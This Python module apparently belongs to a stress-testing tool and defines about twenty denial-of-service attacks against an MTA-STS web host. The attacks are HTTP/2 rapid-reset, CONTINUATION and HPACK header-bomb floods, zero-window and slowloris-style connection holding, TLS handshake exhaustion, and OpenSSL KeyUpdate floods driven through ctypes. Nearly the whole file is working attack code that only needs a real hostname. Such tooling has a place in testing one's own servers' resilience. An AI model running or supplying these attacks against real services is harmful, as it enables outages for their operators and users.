"""The attacks, by name: each is a function of an Attacker (attacker.py) that returns when that is over.

Three shapes, of which most are made: `flood` sends without end over one connection and opens the next
where the server cuts it, `hold` opens many and keeps them, `churn` opens and leaves.
"""

import contextlib
import ctypes
import itertools
import os
import socket
import ssl
import struct
import time

HOST = "mta-sts.tenant-0000000.example"
PATH = "/.well-known/mta-sts.txt"
IP_BIND_ADDRESS_NO_PORT = 24  # not among Python 3.11's names
CHUNK = 16000  # octets that are sent at a time
HELD = 500  # connections that an attacker keeps open
AT_A_TIME = 32  # that it opens before it looks at any


# --- Shapes ---

def flood(chunks, open_one=lambda attacker: attacker.tls("h2")):
    """CHUNKS(): what one connection is sent; the attacker reads what comes, so that the server never
    has to wait for it."""
    def attack(attacker):
        while not attacker.is_over():
            with contextlib.suppress(OSError), open_one(attacker) as connection:
                for chunk in itertools.takewhile(lambda _: not attacker.is_over(), chunks()):
                    attacker.send(connection, chunk)
                    attacker.read(connection)
    return attack


def is_cut(connection):
    """Without reading. (TCP_INFO's first octet: 1 is ESTABLISHED.)"""
    return connection.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] != 1


def hold(octets, open_one):
    """Each connection is sent OCTETS; nothing is ever read."""
    def attack(attacker):
        held = []
        while not attacker.is_over():
            for connection in filter(is_cut, held):
                connection.close()
            held = [connection for connection in held if connection.fileno() >= 0]
            if len(held) >= HELD:
                time.sleep(0.01)
                continue
            with contextlib.suppress(OSError):
                held.append(open_one(attacker))
                attacker.send(held[-1], octets)
    return attack


def churn(use, open_one=lambda attacker: attacker.tcp()):
    """Opens some, has USE(attacker, connection) of each, and leaves them."""
    def attack(attacker):
        while not attacker.is_over():
            with contextlib.suppress(OSError), contextlib.ExitStack() as stack:
                several = [stack.enter_context(open_one(attacker)) for _ in range(AT_A_TIME)]
                for connection in several:
                    use(attacker, connection)
                for connection in several:
                    with contextlib.suppress(OSError):
                        connection.recv(1)
    return attack


# --- HTTP/2 (RFC 9113) ---

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
OPENING = PREFACE + frame(SETTINGS, 0, 0)
FIELDS = (b"\x82\x87\x04" + bytes([len(PATH)]) + PATH.encode() + b"\x01" + bytes([len(HOST)])
          + HOST.encode())
ZERO_WINDOW = frame(SETTINGS, 0, 0, b"\0\4\0\0\0\0")
# A field of 4,000 octets that the dynamic table keeps, then named by one octet each.
BOMB = FIELDS + b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000 + b"\xbe" * 16000


def request(stream):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, FIELDS)


def again(one, first=b""):
    """The opening and FIRST, then ONE without end."""
    return lambda: itertools.chain((OPENING + first,), itertools.repeat(one * (CHUNK // len(one) + 1)))


def each_stream(make, streams=100):
    """The opening, then MAKE(stream) of streams 1, 3, 5 …, so many at a time."""
    def chunks():
        yield OPENING
        for first in range(1, 1 << 30, 2 * streams):
            yield b"".join(map(make, range(first, first + 2 * streams, 2)))
    return chunks


def header_block(block):
    """BLOCK as HEADERS and CONTINUATION of stream 1, and the stream ended."""
    pieces = [block[at:at + CHUNK] for at in range(0, len(block), CHUNK)]
    kinds = [HEADERS, *[CONTINUATION] * (len(pieces) - 1)]
    flags = [END_STREAM, *[0] * (len(pieces) - 1)]
    flags[-1] |= END_HEADERS
    return b"".join(frame(kind, flag, 1, piece) for kind, flag, piece in zip(kinds, flags, pieces))


# --- HTTP/1.1 ---

GET = f"GET {PATH} HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode()


def http1(attacker):
    return attacker.tls("http/1.1")


def unread(alpn):
    return lambda attacker: attacker.tls(alpn, small=True)


# --- TLS ---

def client_hello():
    """A good one, to be sent again and again: the server signs for each, this side computes nothing."""
    sent = ssl.MemoryBIO()
    context = ssl.create_default_context()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), sent, server_hostname=HOST).do_handshake()
    return sent.read()


def junk():
    yield b"\x16\x03\x01\x3f\xff"  # a record of a handshake, as its header says
    while True:
        yield os.urandom(CHUNK)


def key_updates(attacker):
    """Each asks for one in return (RFC 8446, section 4.6.3). Python's ssl has no name for them."""
    libssl = ctypes.CDLL("libssl.so.3")
    for name in ("TLS_client_method", "SSL_CTX_new", "SSL_new"):
        getattr(libssl, name).restype = ctypes.c_void_p
    context = ctypes.c_void_p(libssl.SSL_CTX_new(ctypes.c_void_p(libssl.TLS_client_method())))
    while not attacker.is_over():
        with contextlib.suppress(OSError), attacker.tcp() as raw:
            update_keys(attacker, libssl, ctypes.c_void_p(libssl.SSL_new(context)), raw)


def update_keys(attacker, libssl, session, raw):
    requested, octets = 1, 27  # a record of five, sealed
    set_hostname = 55  # SSL_set_tlsext_host_name is a macro
    raw.settimeout(None)  # OpenSSL wants a descriptor that waits, but not for ever
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", 2, 0))
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack("ll", 2, 0))
    libssl.SSL_set_fd(session, raw.fileno())
    libssl.SSL_ctrl(session, set_hostname, ctypes.c_long(0), HOST.encode())
    good = libssl.SSL_connect(session) == 1
    while good and not attacker.is_over():
        good = libssl.SSL_key_update(session, requested) == 1 and \
            libssl.SSL_do_handshake(session) == 1
        attacker.octets += octets
        with contextlib.suppress(BlockingIOError):
            good = good and raw.recv(65536, socket.MSG_DONTWAIT) != b""
    libssl.SSL_free(session)


def tcp(attacker):
    return attacker.tcp()


def say_nothing(_attacker, connection):
    connection.shutdown(socket.SHUT_WR)


def say(octets):
    return lambda attacker, connection: attacker.send(connection, octets)


KINDS = {
    "http2-requests": flood(each_stream(request)),
    "http2-ping": flood(again(frame(PING, 0, 0, b"pingpong"))),
    "http2-settings": flood(again(frame(SETTINGS, 0, 0, b"\0\3\0\0\0\x64"))),
    "http2-window-update": flood(again(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1"))),
    "http2-empty-data": flood(again(frame(DATA, 0, 1), frame(HEADERS, END_HEADERS, 1, FIELDS))),
    "http2-rapid-reset": flood(each_stream(
        lambda s: request(s) + frame(RST_STREAM, 0, s, b"\0\0\0\x08"))),
    "http2-made-you-reset": flood(each_stream(
        lambda s: request(s) + frame(WINDOW_UPDATE, 0, s, b"\0\0\0\0"))),
    "http2-continuation": flood(again(frame(CONTINUATION, 0, 1, b"\x90" * 1000),
                                      frame(HEADERS, END_STREAM, 1, FIELDS))),
    "http2-header-bomb": flood(lambda: iter((OPENING, header_block(BOMB)))),
    "http2-zero-window": hold(OPENING + ZERO_WINDOW + b"".join(map(request, range(1, 41, 2))),
                              unread("h2")),
    "http1-pipelining": flood(lambda: itertools.repeat(GET * 100), http1),
    "http1-endless-header": flood(lambda: itertools.chain(
        (GET[:-2],), itertools.repeat(b"X: y\r\n" * 1000)), http1),
    "http1-never-reading": hold(GET * 40, unread("http/1.1")),
    "http1-unfinished": hold(GET[:-2], http1),
    "tls-garbage": flood(junk, tcp),
    "tls-handshakes": churn(say(client_hello())),
    "tls-unfinished": hold(client_hello()[:-1], tcp),
    "tls-key-updates": key_updates,
    "tls-fetches": churn(say(GET), http1),
    "connections": churn(say_nothing),
}
